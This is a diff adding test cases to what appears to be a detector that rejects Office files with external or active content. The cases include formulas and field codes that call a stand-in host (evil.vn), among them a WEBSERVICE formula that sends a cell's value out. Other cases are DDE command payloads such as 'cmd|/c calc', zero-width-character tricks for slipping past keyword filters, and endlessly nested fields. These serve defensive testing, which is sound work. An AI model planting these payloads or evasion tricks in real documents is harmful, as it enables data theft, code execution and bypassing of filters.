@@ -44,8 +44,15 @@ def settings(xml: str) -> bytes:
     )
 
 
+MARK = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'.format
+
+
+def simple(instruction: str) -> bytes:
+    return in_body(f'<w:fldSimple w:instr="{instruction}"><w:r><w:t>kết quả</w:t></w:r></w:fldSimple>')
+
+
 def nested_keyword() -> bytes:
-    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'.format
+    mark = MARK
     inner = files.field("QUOTE 68 68 69 65 85 84 79", result="DDEAUTO")
     return in_body(f"{mark('begin')}{inner}<w:r><w:instrText> c:\\x.exe</w:instrText></w:r>{mark('end')}")
 
@@ -121,6 +128,31 @@ CASES = {
     "WEBSERVICE": ("web_content", lambda: files.with_formula("_xlfn.WEBSERVICE(&quot;http://evil.vn/?&quot;&amp;A1)")),
     "IMAGE": ("web_content", lambda: files.with_formula("_xlfn.IMAGE(&quot;http://evil.vn/x.png&quot;)")),
     "header from elsewhere": ("web_content", lambda: files.with_rel(files.word(), DOCUMENT_RELS, "rX", "header", "http://evil.vn/h.xml")),
+    "picture in a field without a blank": ("web_content", lambda: files.with_field("INCLUDEPICTURE&quot;http://evil.vn/x.png&quot;")),
+    "picture in a field with a switch": ("web_content", lambda: files.with_field("INCLUDEPICTURE\\d &quot;http://evil.vn/x.png&quot;")),
+    "text in a field without a blank": ("web_content", lambda: files.with_field("INCLUDETEXT&quot;http://evil.vn/x.docx&quot;")),
+    "text behind an unseen letter": ("web_content", lambda: files.with_field("\u200bINCLU\u00adDETEXT &quot;http://evil.vn/x.docx&quot;")),
+    "text behind a wide blank": ("web_content", lambda: files.with_field("\u3000INCLUDETEXT &quot;http://evil.vn/x.docx&quot;")),
+    "import without a blank": ("web_content", lambda: files.with_field("IMPORT&quot;c:\\x&quot;")),
+    "picture in a simple field": ("web_content", lambda: simple("INCLUDEPICTURE&quot;http://evil.vn/x.png&quot;")),
+    "picture behind a change that is tracked": ("web_content", lambda: in_body(f"{MARK('begin')}<w:r><w:instrText> PAGE </w:instrText></w:r><w:del><w:r><w:delInstrText>INCLUDEPICTURE x</w:delInstrText></w:r></w:del>{MARK('end')}")),
+    "IMPORTCSV": ("web_content", lambda: files.with_formula("_xlfn._xlws.IMPORTCSV(&quot;http://evil.vn/x.csv&quot;)")),
+    "IMPORTTEXT": ("web_content", lambda: files.with_formula("_xlfn.IMPORTTEXT(&quot;\\\\evil\\x.txt&quot;)")),
+    "TRANSLATE": ("web_content", lambda: files.with_formula("_xlfn.TRANSLATE(A1)")),
+    "Python": ("web_content", lambda: files.with_formula("_xlfn._xlws.PY(0,1)")),
+    "function handed on by its name": ("web_content", lambda: files.with_formula("_xlfn.MAP(A1:A3,_xleta.WEBSERVICE)")),
+    "function behind an unseen letter": ("web_content", lambda: files.with_formula("WEB\u200bSERVICE(A1)")),
+    "function between brackets of a table": ("web_content", lambda: files.with_formula("T['[]+WEBSERVICE(A1)+T['[]")),
+    "function between columns with quotes": ("web_content", lambda: files.with_formula("T[a&quot;b]+WEBSERVICE(A1)+T[c&quot;d]")),
+    "function of a data bar": ("web_content", lambda: in_sheet('<conditionalFormatting><cfRule type="colorScale"><colorScale><cfvo type="formula" val="WEBSERVICE(A1)"/></colorScale></cfRule></conditionalFormatting>')),
+    "cube": ("data_connections", lambda: files.with_formula("CUBEVALUE(&quot;conn&quot;,&quot;x&quot;)")),
+    "DDE of LibreOffice": ("dde", lambda: files.with_formula("DDE(&quot;soffice&quot;;&quot;x&quot;;&quot;y&quot;)")),
+    "cmd as a sheet": ("dde", lambda: files.with_formula("'cmd|/c calc'!A0")),
+    "link to an object without a blank": ("dde", lambda: files.with_field("LINK&quot;Excel.Sheet&quot;")),
+    "database without a blank": ("mail_merge", lambda: files.with_field("DATABASE&quot;x&quot;")),
+    # Without end
+    "fields in fields": ("endless_fields", lambda: in_body((MARK("begin") + "<w:r><w:instrText>ZZZ </w:instrText></w:r>") * 21 + "<w:r><w:t>x</w:t></w:r>")),
+    "instruction without end": ("endless_fields", lambda: in_body(MARK("begin") + "<w:r><w:instrText>ZZZ </w:instrText></w:r>" * 15_000)),
     # From other documents and lists
     "sub-document": ("subdocuments", lambda: files.with_rel(files.word(), DOCUMENT_RELS, "rX", "subDocument", "file:///c:/a.docx")),
     "frame set": ("subdocuments", lambda: files.changed(files.word(), {"word/webSettings.xml": lambda text: text.replace("</w:webSettings>", "<w:frameset/></w:webSettings>")})),
@@ -144,6 +176,11 @@ CASES = {
 def test_foreign_content(name):
     what, make = CASES[name]
     assert refusal(make()) == ("foreign_content", what)
+
+
+def test_a_keyword_behind_many_blanks_may_not_be_computed_either():
+    head = "<w:r><w:instrText>" + " " * 90 + "</w:instrText></w:r>"
+    assert refusal(in_body(MARK("begin") + head + files.field("QUOTE 68", result="PAGE") + MARK("end")))[1] == "dde"
 
 
 def test_each_kind_has_a_sentence_of_its_own():
